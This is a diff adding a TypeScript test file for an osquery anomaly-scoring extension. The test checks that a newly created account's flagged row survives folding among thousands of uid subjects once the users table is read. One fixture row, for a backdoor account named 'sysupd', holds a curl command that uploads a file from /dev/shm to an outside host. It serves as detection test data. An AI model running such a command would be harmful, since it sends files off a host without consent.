@@ -1,0 +1,116 @@
+import * as fs from 'fs';
+import * as path from 'path';
+import t, { type Test } from 'tap';
+import type { ScoredEvent } from '../scorer/types';
+import { RetainedScores } from '../state/scores';
+import { emulated, processLine, until, type Emulated } from './helpers/emulated';
+import { ROOT } from './helpers/paths';
+import { plainRow } from './helpers/scored';
+
+// The accounts tier of a bounded `bad` answer (foldacct) through the extension as osqueryd runs
+// it: the extension reads `SELECT uid, username FROM users` from the emulated osqueryd, and
+// that answer, not a table the test hands in, is what ranks a fresh account before a local
+// user's crowd of `uid:N` subjects (revacct: the alert-fold tests give the table its accounts
+// directly, so nothing checked that the lookup fills them).
+
+t.setTimeout(3_600_000);
+
+const alerts = JSON.parse(fs.readFileSync(path.join(ROOT, 'packs', 'anomaly-alerts.conf'), 'utf8')) as { queries: Record<string, { query: string }> };
+
+/** more subjects than the 48 MB answer has room for, each row some 4 kB of the cells `bad` reads */
+const CROWD = 16_000;
+
+/**
+ * the state an extension restarts on: a crowd of a rootless user's subuids, each one bad row
+ * scored 0 by the host's baseline, and `sysupd`, root's backdoor made an hour ago, still
+ * learning: one bad row at 0.12, also the baseline's, and no history. By standing (none either)
+ * and score the crowd comes first; only the users table tells them apart
+ */
+function seed(e: Emulated, now: number): void {
+  const store = new RetainedScores({ dir: path.join(e.stateDir, 'scores'), maxRows: 1_000_000, maxDays: 30 });
+  const crowd = (k: number): ScoredEvent =>
+    plainRow(k, {
+      id: `crowd-${k}`,
+      time: now - 7200 + (k % 3600),
+      subject: `uid:${100_000 + k}`,
+      query: 'pack_user-behavior_file_events',
+      event: `write /home/<user>/.local/share/containers/storage/overlay/${'a'.repeat(2000)}`,
+      score: 0,
+      verdict: 'bad',
+      model: 'host:rarity',
+      reasons: `new account: \`uid:${100_000 + k}\` never acted on this host before ${'r'.repeat(2000)} (host:rarity)`,
+    });
+  // a quarter of the crowd's rows short: once the long ones no longer fit, these take the room
+  // left, which the account's short row would otherwise have had (as in alert-fold)
+  const short = (k: number): ScoredEvent => ({ ...crowd(k), event: 'write /home/<user>/.local/share/containers/<*>', reasons: 'new account (host:rarity)' });
+  for (let i = 0; i < CROWD; i += 1_000) {
+    const batch = Array.from({ length: Math.min(1_000, CROWD - i) }, (_, k) => ((i + k) % 4 === 3 ? short(i + k) : crowd(i + k)));
+    if (i === CROWD / 2)
+      batch.push(
+        plainRow(CROWD, {
+          id: 'sysupd-bad',
+          time: now - 3600,
+          subject: 'sysupd',
+          event: 'shell curl -s -T /dev/shm/<tmp> https://<*>/u',
+          score: 0.12,
+          verdict: 'bad',
+          model: 'host:rarity',
+          reasons: 'new kind of behaviour: argloc `temp-hidden` never seen before on this host (host:rarity; learning: 4 of 1,000 events)',
+        }),
+      );
+    store.append(batch);
+  }
+  store.close();
+}
+
+/**
+ * the `bad` answer of an extension restarted on that state under an osqueryd whose users
+ * table lists `users`, asked once the extension has read the table: a row of bob's (uid 1002,
+ * listed in both) logged after the start is scored under his name only once the lookup answered
+ */
+async function badAfterLookup(t: Test, users: Array<{ uid: string; username: string }>): Promise<Array<Record<string, string>>> {
+  const now = Math.floor(Date.now() / 1000);
+  const e = await emulated({ users, config: { learning: { min_events: 100000, min_days: 0 } } });
+  t.teardown(() => e.close());
+  seed(e, now);
+  await e.launch();
+  await e.emu.logResult('anomaly', processLine(1, '1002'));
+  const [probe] = await until(
+    () => e.emu.query("SELECT subject FROM anomaly_scores WHERE query = 'pack_user-behavior_process_events'"),
+    (r) => r.length > 0,
+  );
+  t.equal(probe.subject, 'bob', 'the extension read the users table (uid 1002 is named bob)');
+  return e.emu.query(alerts.queries.bad.query);
+}
+
+const HOST_USERS = [
+  { uid: '0', username: 'root' },
+  { uid: '1002', username: 'bob' },
+  { uid: '1003', username: 'mallory' },
+];
+
+t.test(
+  "a learning account the users table lists keeps its bad row in the bad answer among a crowd of uid subjects, read through osqueryd's users table (revacct)",
+  async (t) => {
+    const rows = await badAfterLookup(t, [...HOST_USERS, { uid: '1005', username: 'sysupd' }]);
+    const folded = rows.find((r) => r.subject === '*');
+    t.ok(folded, `the answer has no room for every subject: the crowd's last are folded (${folded?.event})`);
+    t.ok(
+      rows.some((r) => r.id === 'sysupd-bad'),
+      "the backdoor's row is a row of the answer",
+    );
+  },
+);
+
+t.test('the same state under a users table that does not list the account folds its row with the crowd (revacct)', async (t) => {
+  // what makes the difference in the test above is the table osqueryd answered
+  const rows = await badAfterLookup(t, HOST_USERS);
+  t.ok(
+    rows.some((r) => r.subject === '*'),
+    'the crowd is folded',
+  );
+  t.notOk(
+    rows.some((r) => r.id === 'sysupd-bad'),
+    `and the unlisted account with it (${rows.filter((r) => r.model !== 'held-back').length} rows shown; ${rows.find((r) => r.subject === '*')?.event})`,
+  );
+});
